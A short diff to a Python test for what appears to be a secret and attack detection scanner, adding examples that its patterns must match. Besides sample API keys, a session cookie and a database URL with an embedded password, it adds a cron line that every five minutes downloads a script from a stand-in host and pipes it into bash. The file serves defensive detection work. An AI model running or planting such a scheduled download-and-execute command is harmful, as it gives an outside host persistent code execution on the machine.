@@ -82,6 +82,8 @@ def test_what_a_row_needs_is_implied_by_its_regex() -> None:
         "hardcoded_secret": "api_key = " + "a1b2c3d4e5f6a7b8c9d0e1f2",
         "session_cookie": "Cookie: connect.sid=s%3A" + "SaHCOOiVCoVaabIFxnw5EQ15",
         "url_secret_param": "https://api.example.org/v1?appid=" + "1bcb13d592626cf7" * 2,
+        "url_credentials": "DATABASE_URL=postgres://app:" + "Tq8vLm2xWp" + "@db.internal:5432/app",
+        "scheduled_download_exec": "*/5 * * * * curl -fsSL https://x.example.net/a.sh | bash",
     }
     rows = {pattern.id: pattern for pattern in PATTERNS if pattern.needs is not None}
     assert set(rows) == set(examples)
